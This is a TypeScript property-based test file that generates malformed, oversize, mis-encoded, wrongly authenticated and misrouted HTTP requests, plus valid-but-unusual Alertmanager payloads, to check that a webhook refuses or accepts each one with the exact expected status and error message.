      case 'version':
        define(body, 'version', MARK)
        return {
          kind: 'deep-nesting' as const,
          what: `${what} at /version`,
          body: withNested(JSON.stringify(body)),
          message: typeMessage('/version', 'string', shape === 'array' ? [] : {}),
        }
      case 'alert': {
        const i = n % alertsOf(body).length
        alertsOf(body)[i] = MARK as unknown as Json
        return {
          kind: 'deep-nesting' as const,
          what: `${what} as /alerts/${i}`,
          body: withNested(JSON.stringify(body)),
          message:
            shape === 'array'
              ? typeMessage(`/alerts/${i}`, 'object', [])
              : new RegExp(
                  `^${escapeRegExp(`${INVALID}/alerts/${i} must have required property `)}'(status|labels|startsAt)'$`,
                ),
        }
      }
      case 'alerts-item':
        define(body, 'alerts', MARK)
        return {
          kind: 'deep-nesting' as const,
          what: `${what} as /alerts`,
          body: withNested(JSON.stringify(body)),
          message: shape === 'array' ? typeMessage('/alerts/0', 'object', []) : typeMessage('/alerts', 'array', {}),
        }
      default: {
        // Opened and never closed: broken JSON, however deep.
        const path = putText(body, 'label', n, name, MARK)
        const open = shape === 'array' ? '['.repeat(depth) : '{"a":'.repeat(depth)
        return {
          kind: 'deep-nesting' as const,
          what: `${what} at ${path}, never closed`,
          body: Buffer.from(
            JSON.stringify(body).replace(placeholder, () => open),
            'utf8',
          ),
          message: /^malformed JSON: \S/,
        }
      }
    }
  })

/** Byte sequences that are never UTF-8, whatever ASCII surrounds them. */
const INVALID_UTF8: ReadonlyArray<[string, number[]]> = [
  ['a lone continuation byte', [0x80]],
  ['a lone continuation byte 0xbf', [0xbf]],
  ['an overlong "/" (c0 af)', [0xc0, 0xaf]],
  ['an overlong c1 bf', [0xc1, 0xbf]],
  ['an overlong 3-byte NUL', [0xe0, 0x80, 0x80]],
  ['an overlong 4-byte "/"', [0xf0, 0x80, 0x80, 0xaf]],
  ['a UTF-8-encoded surrogate (CESU-8)', [0xed, 0xa0, 0x80]],
  ['an emoji in CESU-8', [0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80]],
  ['a code point above U+10FFFF', [0xf4, 0x90, 0x80, 0x80]],
  ['byte f5', [0xf5]],
  ['byte fe', [0xfe]],
  ['byte ff', [0xff]],
  ['a UTF-16 BOM', [0xff, 0xfe]],
  ['Latin-1 é', [0xe9]],
  ['Latin-1 ü', [0xfc]],
  ['a truncated 2-byte sequence', [0xc3]],
  ['a truncated 3-byte sequence', [0xe2, 0x82]],
  ['a truncated 4-byte sequence', [0xf0, 0x9f, 0x98]],
]

const invalidBytes: fc.Arbitrary<[string, Buffer]> = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.constantFrom(...INVALID_UTF8).map(([what, bytes]): [string, Buffer] => [what, Buffer.from(bytes)]),
  },
  {
    weight: 1,
    arbitrary: fc
      .uint8Array({ minLength: 1, maxLength: 8 })
      .filter((bytes) => !isUtf8(Buffer.concat([Buffer.from('a'), bytes, Buffer.from('a')])))
      .map((bytes): [string, Buffer] => [`random bytes ${Buffer.from(bytes).toString('hex')}`, Buffer.from(bytes)]),
  },
)

const invalidUtf8: fc.Arbitrary<BadBody> = fc.oneof(
  // Inside a string (a label value, a name, …) of an otherwise valid body.
  fc
    .tuple(validBody, textSlot, fc.nat(), labelName, invalidBytes, fc.boolean())
    .map(([base, slot, n, name, [what, bytes], inName]) => {
      const body = clone(base)
      const path =
        inName && slot !== 'receiver' && slot !== 'groupKey' && slot !== 'externalURL' && slot !== 'generatorURL'
          ? putText(body, slot, n, `a${MARK}b`, 'v')
          : putText(body, slot, n, name, `a${MARK}b`)
      const text = Buffer.from(JSON.stringify(body), 'utf8')
      const at = text.indexOf(MARK)
      return {
        kind: 'invalid-utf8' as const,
        what: `${what} in ${path}`,
        body: Buffer.concat([text.subarray(0, at), bytes, text.subarray(at + MARK.length)]),
        message: exactly(NOT_UTF8),
      }
    }),
  // Outside any string, or the whole body in another encoding.
  fc
    .tuple(validBody, invalidBytes, fc.constantFrom('before', 'after', 'utf16le-bom', 'utf16be-bom', 'latin1'))
    .map(([base, [what, bytes], where]) => {
      const body = clone(base)
      switch (where) {
        case 'before':
          return {
            kind: 'invalid-utf8' as const,
            what: `${what} before the body`,
            body: Buffer.concat([bytes, serialize(body)]),
            message: exactly(NOT_UTF8),
          }
        case 'after':
          return {
            kind: 'invalid-utf8' as const,
            what: `${what} after the body`,
            body: Buffer.concat([serialize(body), bytes]),
            message: exactly(NOT_UTF8),
          }
        case 'utf16le-bom':
          return {
            kind: 'invalid-utf8' as const,
            what: 'the body in UTF-16LE with a BOM',
            body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(JSON.stringify(body), 'utf16le')]),
            message: exactly(NOT_UTF8),
          }
        case 'utf16be-bom': {
          const le = Buffer.from(JSON.stringify(body), 'utf16le')
          return {
            kind: 'invalid-utf8' as const,
            what: 'the body in UTF-16BE with a BOM',
            body: Buffer.concat([Buffer.from([0xfe, 0xff]), le.swap16()]),
            message: exactly(NOT_UTF8),
          }
        }
        default: {
          // Latin-1 with at least one byte above 0x7f (a label value "café"), each followed by ASCII.
          const [alert] = pickAlert(body, 0)
          define(mapAt(alert, 'labels'), 'city', 'Malmö café x')
          const ascii = JSON.stringify(body).replace(/[^\x00-\xff]/g, '?')
          return {
            kind: 'invalid-utf8' as const,
            what: 'the body in Latin-1',
            body: Buffer.from(ascii, 'latin1'),
            message: exactly(NOT_UTF8),
          }
        }
      }
    }),
)

/** JSON escapes that decode to a string with an unpaired surrogate. */
const LONE_SURROGATE_ESCAPES: readonly string[] = [
  '\\ud800',
  '\\udbff',
  '\\ud83d',
  '\\udc00',
  '\\udfff',
  '\\ude00',
  '\\udc00\\ud800',
  '\\ud83d\\u0041',
  '\\ud83d\\ud83d',
  'x\\udfffx',
]

const loneSurrogate: fc.Arbitrary<BadBody> = fc
  .tuple(validBody, textSlot, fc.nat(), plainName, fc.constantFrom(...LONE_SURROGATE_ESCAPES), fc.boolean())
  .map(([base, slot, n, name, escape, inName]) => {
    const body = clone(base)
    const mapSlotName = slot !== 'receiver' && slot !== 'groupKey' && slot !== 'externalURL' && slot !== 'generatorURL'
    const text = (json: string) =>
      Buffer.from(
        json.replace(MARK, () => escape),
        'utf8',
      )
    if (inName && mapSlotName) {
      const path = putText(body, slot, n, `${name}${MARK}`, 'v')
      const mapPath = path.slice(0, path.lastIndexOf('/'))
      return {
        kind: 'lone-surrogate' as const,
        what: `the escape ${escape} in a name of ${mapPath}`,
        body: text(JSON.stringify(body)),
        message: between(`${INVALID}${mapPath} has an invalid name "`, ` (${LONE_SURROGATE_PROBLEM})`),
      }
    }
    const path = putText(body, slot, n, name, `a${MARK}b`)
    return {
      kind: 'lone-surrogate' as const,
      what: `the escape ${escape} in ${path}`,
      body: text(JSON.stringify(body)),
      message: exactly(`${INVALID}${path} ${LONE_SURROGATE_PROBLEM}`),
    }
  })

const JSON_WHITESPACE = /^[ \t\n\r]*$/

/** Offsets of structural characters ({ } [ ] : ,) of compact JSON text, outside strings. */
function structuralOffsets(json: string): number[] {
  const offsets: number[] = []
  let inString = false
  for (let i = 0; i < json.length; i++) {
    const c = json[i]!
    if (inString) {
      if (c === '\\') i++
      else if (c === '"') inString = false
    } else if (c === '"') inString = true
    else if ('{}[]:,'.includes(c)) offsets.push(i)
  }
  return offsets
}

/** Broken JSON text; every case is checked against JSON.parse. */
const brokenJson: fc.Arbitrary<BadBody> = fc
  .tuple(
    validBody,
    fc.constantFrom(
      'truncated',
      'trailing',
      'delete',
      'insert',
      'trailing-comma',
      'comment',
      'single-quotes',
      'unquoted-key',
      'literal',
      'raw-control',
      'bad-escape',
      'twice',
      'utf16le',
      'text',
    ),
    fc.nat(),
    fc
      .oneof(
        fc.constantFrom('}', ']', ',', 'x', '{}', '[]', '"', '\u0000', 'null', '0', '\u00a0', '\ufeff', '#'),
        anyUnicode(1, 20),
      )
      .filter((g) => !JSON_WHITESPACE.test(g)),
    anyUnicode(1, 40),
  )
  .map(([base, how, n, garbage, text]): BadBody => {
    const body = clone(base)
    const json = JSON.stringify(body)
    const offsets = structuralOffsets(json)
    const at = offsets[n % offsets.length]!
    const make = (what: string, out: string | Buffer): BadBody => ({
      kind: 'broken-json' as const,
      what,
      body: typeof out === 'string' ? Buffer.from(out, 'utf8') : out,
      message: /^malformed JSON: \S/,
    })
    switch (how) {
      case 'truncated': {
        const cut = 1 + (n % (json.length - 1))
        return make(`truncated at ${cut} of ${json.length}`, json.slice(0, cut))
      }
      case 'trailing':
        return make(`trailing ${JSON.stringify(garbage)}`, `${json}${garbage}`)
      case 'delete':
        return make(`${JSON.stringify(json[at])} at ${at} deleted`, json.slice(0, at) + json.slice(at + 1))
      case 'insert': {
        const c = '{}[]:,'[n % 6]!
        return make(`an extra ${JSON.stringify(c)} at ${at}`, json.slice(0, at) + c + json.slice(at))
      }
      case 'trailing-comma': {
        const closers = offsets.filter((o) => json[o] === '}' || json[o] === ']')
        const o = closers[n % closers.length]!
        return make(`a trailing comma at ${o}`, `${json.slice(0, o)},${json.slice(o)}`)
      }
      case 'comment':
        return make(`a comment at ${at}`, json.slice(0, at + 1) + (n % 2 ? '/* c */' : '// c\n') + json.slice(at + 1))
      case 'single-quotes':
        return make('single quotes', json.replace(/"/g, "'"))
      case 'unquoted-key':
        return make('an unquoted key', json.replace('"version":', 'version:').replace('"status":', 'status:'))
      case 'literal': {
        const literal = [
          'NaN',
          'Infinity',
          '-Infinity',
          'undefined',
          '01',
          '0x10',
          '+1',
          '.5',
          '1.',
          '1e',
          '--1',
          'True',
          'nil',
          "'4'",
        ][n % 14]!
        define(body, 'truncatedAlerts', MARK)
        return make(
          `truncatedAlerts: ${literal}`,
          JSON.stringify(body).replace(JSON.stringify(MARK), () => literal),
        )
      }
      case 'raw-control': {
        const c = String.fromCharCode(n % 32)
        putText(body, 'label', n, 'ctl', `a${MARK}b`)
        return make(
          `a raw U+${(n % 32).toString(16).padStart(4, '0')} in a string`,
          JSON.stringify(body).replace(MARK, () => c),
        )
      }
      case 'bad-escape': {
        const escape = ['\\x41', '\\u12', '\\u12G4', "\\'", '\\a', '\\\n', '\\U00000041', '\\0', '\\ '][n % 9]!
        putText(body, 'label', n, 'esc', `a${MARK}b`)
        return make(
          `the escape ${JSON.stringify(escape)}`,
          JSON.stringify(body).replace(MARK, () => escape),
        )
      }
      case 'twice':
        return make('two bodies back to back', `${json}${n % 2 ? '\n' : ''}${json}`)
      case 'utf16le':
        return make('the body in UTF-16LE without a BOM', Buffer.from(json, 'utf16le'))
      default:
        return make(`text ${JSON.stringify(text)}`, text)
    }
  })
  .filter((c) => !parsesAsJson(c.body))

const emptyBody: fc.Arbitrary<BadBody> = fc.stringMatching(/^[ \t\n\r]{0,40}$/).map((text) => ({
  kind: 'empty-body' as const,
  what: `the body ${JSON.stringify(text)}`,
  body: Buffer.from(text),
  message: exactly('malformed JSON: the body is empty'),
}))

/**
 * Every body the payload validator must refuse (400 + a dead letter), tagged with its
 * kind, with the exact message it must get. No body here is above the body limit.
 */
export const badBody: fc.Arbitrary<BadBody> = fc.oneof(
  { weight: 12, arbitrary: brokenJson },
  { weight: 2, arbitrary: emptyBody },
  { weight: 4, arbitrary: wrongTopLevelType },
  { weight: 14, arbitrary: wrongFieldType },
  { weight: 6, arbitrary: missingField },
  { weight: 5, arbitrary: badEnum },
  { weight: 6, arbitrary: badTimestamp },
  { weight: 6, arbitrary: hugeLabels },
  { weight: 5, arbitrary: deepNesting },
  { weight: 6, arbitrary: invalidUtf8 },
  { weight: 4, arbitrary: loneSurrogate },
  { weight: 3, arbitrary: invalidName },
)

// ---------------------------------------------------------------------------
// Transport: headers, and the HTTP-level cases
// ---------------------------------------------------------------------------

/** Well-formed media types the webhook accepts whatever they say (it parses the bytes as JSON). */
const ACCEPTED_CONTENT_TYPES: readonly (string | undefined)[] = [
  'application/json',
  'application/json; charset=utf-8',
  'text/plain',
  'text/plain;charset=UTF-8',
  'application/octet-stream',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=----x',
  'application/xml',
  '*/*',
  undefined,
]

const acceptedContentType = fc.oneof(
  { weight: 6, arbitrary: fc.constant<string | undefined>('application/json') },
  { weight: 4, arbitrary: fc.constantFrom(...ACCEPTED_CONTENT_TYPES) },
)

/** Mostly in one piece with a content-length, sometimes chunked (no length known up front). */
const sometimesChunked = fc.oneof(
  { weight: 9, arbitrary: fc.constant(false) },
  { weight: 1, arbitrary: fc.constant(true) },
)

/** Request headers; an undefined content type or authorization is not sent at all. */
function headers(contentType: string | undefined, authorization: string | undefined): Record<string, string> {
  const out: Record<string, string> = {}
  if (contentType !== undefined) out['content-type'] = contentType
  if (authorization !== undefined) out.authorization = authorization
  return out
}

/** Options of {@link hostileRequest} and {@link goodRequest}. */
export interface HostileOptions {
  /** The bearer token the webhook under test requires. */
  token: string
}

const bodyRefusal = (message: RegExp): ExpectedRefusal => ({
  stage: 'body',
  status: 400,
  code: ERROR_CODES.BAD_PAYLOAD,
  message,
  deadLetter: true,
})

/** A body whose one alert makes a record above the publisher's limit, while the body is under the body limit. */
function recordTooLarge(token: string): fc.Arbitrary<HostileRequest> {
  return fc
    .tuple(
      validBody,
      fc.integer({ min: 62, max: 63 }),
      fc.integer({ min: 16_300, max: HOSTILE_LIMITS.maxValueLength }),
      acceptedContentType,
    )
    .map(([base, count, length, contentType]) => {
      const body = clone(base)
      const alert = alertsOf(body)[0]!
      define(body, 'alerts', [alert])
      const labels = mapAt(alert, 'labels')
      for (let k = 0; k < count; k++) define(labels, `big_${k}`, 'x'.repeat(length))
      const raw = serialize(body)
      return {
        kind: 'record-too-large' as const,
        what: `${count} labels of ${length} characters in one alert (${raw.length} bytes)`,
        method: 'POST',
        path: WEBHOOK_PATH,
        headers: headers(contentType, `Bearer ${token}`),
        body: raw,
        chunked: false,
        expected: {
          stage: 'record',
          status: 400,
          code: ERROR_CODES.BAD_PAYLOAD,
          message: new RegExp(
            `^/alerts/0 makes a Kafka record of \\d+ bytes, more than the ${HOSTILE_LIMITS.maxRecordBytes} allowed$`,
          ),
          deadLetter: true,
        },
      }
    })
}

/** Any body: valid, broken, or random bytes (for cases refused before the body counts). */
const anyBody: fc.Arbitrary<Buffer> = fc.oneof(
  validBody.map(serialize),
  badBody.map((c) => c.body),
  fc.uint8Array({ maxLength: 64 }).map((b) => Buffer.from(b)),
)

function oversize(token: string): fc.Arbitrary<HostileRequest> {
  const limit = HOSTILE_LIMITS.bodyLimitBytes
  return fc
    .tuple(
      fc.integer({ min: limit + 1, max: 3 * limit }),
      fc.constantFrom('json', 'spaces', 'bytes'),
      fc.boolean(),
      acceptedContentType,
    )
    .map(([size, fill, chunked, contentType]) => {
      let body: Buffer
      if (fill === 'json') {
        const head = Buffer.from('{"version":"4","status":"firing","alerts":[],"pad":"')
        body = Buffer.concat([head, Buffer.alloc(size - head.length - 2, 'x'), Buffer.from('"}')])
      } else body = Buffer.alloc(size, fill === 'spaces' ? 0x20 : 0xff)
      return {
        kind: 'oversize' as const,
        what: `${size} bytes of ${fill}${chunked ? ', chunked' : ''}`,
        method: 'POST',
        path: WEBHOOK_PATH,
        headers: headers(contentType, `Bearer ${token}`),
        body,
        chunked,
        expected: {
          stage: 'size',
          status: 413,
          code: ERROR_CODES.PAYLOAD_TOO_LARGE,
          message: exactly(`the body exceeds the limit of ${limit} bytes`),
          deadLetter: false,
        },
      }
    })
}

/** Content-type headers that are not `type/subtype` (RFC 9110 tokens), so no media type at all. */
const malformedContentType = fc.oneof(
  fc.constantFrom(
    'garbage',
    'json',
    'application/',
    '/json',
    'application/json/extra',
    'application/js on',
    'application json',
    '(json)/x',
    'ap@p/json',
    'application/json, text/plain',
    'text/plain/',
    '"application/json"',
    'application/{json}',
    '',
  ),
  fc.stringMatching(/^[a-z][a-z0-9.+-]{0,15}$/),
  fc.stringMatching(/^[a-z]{1,10}\/$/),
  fc.stringMatching(/^\/[a-z]{1,10}$/),
  fc
    .tuple(
      fc.stringMatching(/^[a-z]{1,8}$/),
      fc.constantFrom('@', '(', ')', '<', '>', ',', '\\', '[', ']', '?', '=', '{', '}', ' '),
    )
    .map(([t, c]) => `${t}${c}x/json`),
)

function badContentType(token: string): fc.Arbitrary<HostileRequest> {
  return fc.tuple(malformedContentType, anyBody).map(([contentType, body]) => ({
    kind: 'bad-content-type' as const,
    what: `content-type ${JSON.stringify(contentType)}`,
    method: 'POST',
    path: WEBHOOK_PATH,
    headers: headers(contentType, `Bearer ${token}`),
    body,
    chunked: false,
    expected: {
      stage: 'content-type' as const,
      status: 415,
      code: ERROR_CODES.BAD_REQUEST,
      message: exactly(
        `the content-type header ${JSON.stringify(contentType)} is not a valid media type (type/subtype, e.g. application/json)`,
      ),
      deadLetter: false,
    },
  }))
}

function badCredentials(token: string): fc.Arbitrary<HostileRequest> {
  const authorization = fc
    .oneof(
      fc.constant(undefined),
      fc.constantFrom(
        'Bearer',
        'Bearer ',
        `Bearer ${token}x`,
        `Bearer ${token.slice(0, -1)}`,
        `Bearer x${token}`,
        `Token ${token}`,
        token,
        `Basic ${Buffer.from(`am:${token}`).toString('base64')}`,
        `Bearer ${token} extra`,
        `Bearer\t${token}`,
        `Bearer ${token.toUpperCase()}`,
      ),
      fc.stringMatching(/^[ -~]{0,40}$/),
    )
    // Never what the webhook accepts: scheme "bearer" in any case, spaces, the exact token.
    .filter((a) => a === undefined || /^bearer +(\S+) *$/i.exec(a.trim())?.[1] !== token)
  return fc.tuple(authorization, anyBody, acceptedContentType).map(([auth, body, contentType]) => ({
    kind: 'bad-credentials' as const,
    what: auth === undefined ? 'no authorization header' : `authorization ${JSON.stringify(auth)}`,
    method: 'POST',
    path: WEBHOOK_PATH,
    headers: headers(contentType, auth),
    body,
    chunked: false,
    expected: {
      stage: 'auth' as const,
      status: 401,
      code: ERROR_CODES.UNAUTHORIZED,
      message: exactly('missing or invalid credentials'),
      deadLetter: false,
    },
  }))
}

function wrongRoute(token: string): fc.Arbitrary<HostileRequest> {
  const route = fc.oneof(
    fc.constantFrom('PUT', 'PATCH', 'DELETE').map((method) => [method, WEBHOOK_PATH] as const),
    fc
      .constantFrom(
        `${WEBHOOK_PATH}/`,
        WEBHOOK_PATH.toUpperCase(),
        '/webhook',
        '/webhooks/alertmanager',
        '/',
        '/api/v2/alerts',
        `${WEBHOOK_PATH}x`,
      )
      .map((path) => ['POST', path] as const),
  )
  return fc.tuple(route, anyBody).map(([[method, path], body]) => ({
    kind: 'wrong-route' as const,
    what: `${method} ${path}`,
    method,
    path,
    headers: headers('application/json', `Bearer ${token}`),
    body,
    chunked: false,
    // The webhook's path with another method is a 405 (with Allow); any other path a 404.
    expected:
      path === WEBHOOK_PATH
        ? {
            stage: 'route' as const,
            status: 405,
            code: ERROR_CODES.METHOD_NOT_ALLOWED,
            message: exactly(`${method} is not allowed on ${path}; allowed: POST`),
            deadLetter: false,
          }
        : {
            stage: 'route' as const,
            status: 404,
            code: ERROR_CODES.NOT_FOUND,
            message: exactly(`no route for ${method} ${path}`),
            deadLetter: false,
          },
  }))
}

/**
 * Every request the webhook must refuse with a 4xx: the body-level cases of
 * {@link badBody} sent with any well-formed content type (400, dead-lettered), and the
 * HTTP-level ones (401, 404, 413, 415: refused before the body counts, never
 * dead-lettered), plus a body whose record would be too large for Kafka (400,
 * dead-lettered by the publisher).
 */
export function hostileRequest(options: HostileOptions): fc.Arbitrary<HostileRequest> {
  const { token } = options
  const body = fc.tuple(badBody, acceptedContentType, sometimesChunked).map(([c, contentType, chunked]) => ({
    kind: c.kind,
    what: chunked ? `${c.what}, chunked` : c.what,
    method: 'POST',
    path: WEBHOOK_PATH,
    headers: headers(contentType, `Bearer ${token}`),
    body: c.body,
    chunked,
    expected: bodyRefusal(c.message),
  }))
  return fc.oneof(
    { weight: 73, arbitrary: body },
    { weight: 1, arbitrary: recordTooLarge(token) },
    { weight: 1, arbitrary: oversize(token) },
    { weight: 4, arbitrary: badContentType(token) },
    { weight: 4, arbitrary: badCredentials(token) },
    { weight: 2, arbitrary: wrongRoute(token) },
  )
}

// ---------------------------------------------------------------------------
// Good requests: valid but weird, each alert stamped with a unique probe label
// ---------------------------------------------------------------------------

/** The label every good alert carries, unique per alert, to find it on alerts.raw. */
export const PROBE_LABEL = 'nightshift_probe'

interface GoodAlertTemplate {
  status: string
  labels: Record<string, string>
  annotations?: Record<string, string>
  startsAt: string
  endsAt?: string
  generatorURL?: string
  /** Send a well-formed fingerprint (kept), a malformed one (recomputed), or none. */
  fingerprint: 'sent' | 'malformed' | 'none'
}

/** A valid-but-weird body before it is stamped with unique probes and serialized. */
export interface GoodTemplate {
  what: string[]
  group: Json
  alerts: GoodAlertTemplate[]
  contentType: string | undefined
  encoding: { indent: '' | '  ' | '\t'; asciiEscape: boolean; bom: boolean; padding: string; chunked: boolean }
  /** An unknown top-level field nested this deep (ignored by the webhook), or 0. */
  deepExtra: number
}

/** What a good alert must look like on alerts.raw (receivedAt is the server's). */
export type ExpectedAlert = Omit<AlertRecord, 'fingerprint' | 'status' | 'receivedAt'> & {
  probe: string
  /** The sent fingerprint when it was well-formed; else it is computed from the labels. */
  fingerprint: string | undefined
  status: string
}

/** A valid request, and the records it must produce. */
export interface GoodRequest extends WireRequest {
  kind: 'good'
  what: string
  alerts: ExpectedAlert[]
}

const exactMax = <T>(what: string, arb: fc.Arbitrary<T>) => arb.map((value) => [what, value] as const)

/** Label maps of a good alert: mostly small and weird, sometimes at a limit exactly. */
const goodLabels: fc.Arbitrary<readonly [string, Record<string, string>]> = fc.oneof(
  { weight: 12, arbitrary: exactMax('weird labels', labelMap(0, 8)) },
  // 127 generated + the probe = exactly the maximum of 128.
  {
    weight: 1,
    arbitrary: exactMax(
      '128 labels',
      labelMap(HOSTILE_LIMITS.maxLabels - 1, HOSTILE_LIMITS.maxLabels - 1, fc.oneof(plainName, labelName)),
    ),
  },
  {
    weight: 1,
    arbitrary: exactMax(
      'a value of exactly 16384 code points',
      fc
        .tuple(labelName, longText(HOSTILE_LIMITS.maxValueLength, HOSTILE_LIMITS.maxValueLength))
        .map(([n, v]) => ({ [n]: v })),
    ),
  },
  {
    weight: 1,
    arbitrary: exactMax(
      'a name of exactly 1024 code points',
      fc
        .tuple(longText(HOSTILE_LIMITS.maxNameLength, HOSTILE_LIMITS.maxNameLength), weirdText)
        .map(([n, v]) => Object.fromEntries([[n, v]])),
    ),
  },
  {
    weight: 1,
    arbitrary: exactMax(
      'prototype-named labels',
      fc.constant(
        Object.fromEntries([
          ['__proto__', 'x'],
          ['constructor', 'y'],
          ['toString', 'z'],
        ]),
      ),
    ),
  },
)

const goodAlert: fc.Arbitrary<[string, GoodAlertTemplate]> = fc
  .tuple(
    goodLabels,
    fc.option(labelMap(0, 4), { nil: undefined }),
    status,
    rfc3339,
    fc.option(rfc3339, { nil: undefined }),
    fc.option(weirdText, { nil: undefined }),
    fc.constantFrom<GoodAlertTemplate['fingerprint']>('sent', 'sent', 'malformed', 'none'),
  )
  .map(([[what, labels], annotations, s, startsAt, endsAt, generatorURL, fingerprint]) => {
    const alert: GoodAlertTemplate = {
      status: s,
      labels: { ...Object.fromEntries(Object.entries(labels)) },
      startsAt,
      fingerprint,
    }
    if (annotations !== undefined) alert.annotations = annotations
    if (endsAt !== undefined) alert.endsAt = endsAt
    if (generatorURL !== undefined) alert.generatorURL = generatorURL
    return [what, alert]
  })

/** Valid-but-weird Alertmanager bodies: hostile-looking strings, limits hit exactly, odd encodings. */
export const goodTemplate: fc.Arbitrary<GoodTemplate> = fc
  .tuple(
    fc.record(
      {
        status,
        receiver: fc.oneof(
          { weight: 9, arbitrary: weirdText },
          { weight: 1, arbitrary: longText(HOSTILE_LIMITS.maxValueLength, HOSTILE_LIMITS.maxValueLength) },
        ),
        groupKey: weirdText,
        externalURL: weirdText,
        truncatedAlerts: fc.oneof(fc.constant(0), fc.nat(), fc.constant(Number.MAX_SAFE_INTEGER)),
        groupLabels: labelMap(0, 3),
        commonLabels: labelMap(0, 3),
        commonAnnotations: labelMap(0, 3),
      },
      { requiredKeys: ['status'] },
    ),
    fc.array(goodAlert, { minLength: 1, maxLength: 6 }),
    fc.oneof(
      { weight: 6, arbitrary: fc.constant<string | undefined>('application/json') },
      { weight: 4, arbitrary: fc.constantFrom(...ACCEPTED_CONTENT_TYPES) },
    ),
    fc.record({
      indent: fc.constantFrom<GoodTemplate['encoding']['indent']>('', '', '  ', '\t'),
      asciiEscape: fc.boolean(),
      bom: fc.oneof({ weight: 9, arbitrary: fc.constant(false) }, { weight: 1, arbitrary: fc.constant(true) }),
      padding: fc.stringMatching(/^[ \t\n\r]{0,4}$/),
      chunked: sometimesChunked,
    }),
    fc.oneof(
      { weight: 9, arbitrary: fc.constant(0) },
      { weight: 1, arbitrary: fc.integer({ min: 1000, max: 100_000 }) },
    ),
  )
  .map(([group, alerts, contentType, encoding, deepExtra]) => {
    const what = [...new Set(alerts.map(([w]) => w))]
    if (encoding.asciiEscape) what.push('\\u-escaped')
    if (encoding.bom) what.push('UTF-8 BOM')
    if (encoding.chunked) what.push('chunked')
    if (deepExtra > 0) what.push(`an unknown field nested ${deepExtra} deep`)
    what.push(`content-type ${contentType ?? 'none'}`)
    return {
      what,
      group: { version: '4', ...group },
      alerts: alerts.map(([, a]) => a),
      contentType,
      encoding,
      deepExtra,
    }
  })

/**
 * Serializes a {@link goodTemplate} with unique probes: alert `i` of request `serial`
 * gets the label {@link PROBE_LABEL} = `good-<serial>-<i>`, and, when the template says
 * so, a well-formed fingerprint unique to it.
 */
export function goodRequest(template: GoodTemplate, serial: number, options: HostileOptions): GoodRequest {
  const expected: ExpectedAlert[] = []
  const alerts = template.alerts.map((a, i) => {
    const probe = `good-${serial}-${i}`
    const labels = Object.fromEntries([
      ...Object.entries(a.labels).filter(([name]) => name !== PROBE_LABEL),
      [PROBE_LABEL, probe],
    ])
    const fingerprint =
      a.fingerprint === 'sent'
        ? `${serial.toString(16).padStart(12, '0')}${i.toString(16).padStart(4, '0')}`
        : a.fingerprint === 'malformed'
          ? `NOT-HEX-${serial}`
          : undefined
    const out: Json = { status: a.status, labels }
    if (a.annotations !== undefined) out.annotations = a.annotations
    out.startsAt = a.startsAt
    if (a.endsAt !== undefined) out.endsAt = a.endsAt
    if (a.generatorURL !== undefined) out.generatorURL = a.generatorURL
    if (fingerprint !== undefined) out.fingerprint = fingerprint
    expected.push({
      probe,
      fingerprint: a.fingerprint === 'sent' ? fingerprint : undefined,
      status: a.status,
      labels,
      annotations: a.annotations ?? {},
      startsAt: a.startsAt,
      endsAt: a.endsAt ?? null,
      generatorURL: a.generatorURL ?? null,
      receiver: (template.group.receiver as string | undefined) ?? null,
      groupKey: (template.group.groupKey as string | undefined) ?? null,
      externalURL: (template.group.externalURL as string | undefined) ?? null,
    })
    return out
  })
  const body: Json = { ...template.group, alerts }
  if (template.deepExtra > 0) body.x_nightshift_extra = MARK
  const { indent, asciiEscape, bom, padding } = template.encoding
  let json = JSON.stringify(body, null, indent)
  if (asciiEscape) json = asciiEscaped(json)
  if (template.deepExtra > 0)
    json = json.replace(
      JSON.stringify(MARK),
      () => `${'['.repeat(template.deepExtra)}${']'.repeat(template.deepExtra)}`,
    )
  const text = `${bom ? '\ufeff' : ''}${padding}${json}${padding}`
  return {
    kind: 'good' as const,
    what: template.what.join(', '),
    method: 'POST',
    path: WEBHOOK_PATH,
    headers: headers(template.contentType, `Bearer ${options.token}`),
    body: Buffer.from(text, 'utf8'),
    chunked: template.encoding.chunked,
    alerts: expected,
  }
}
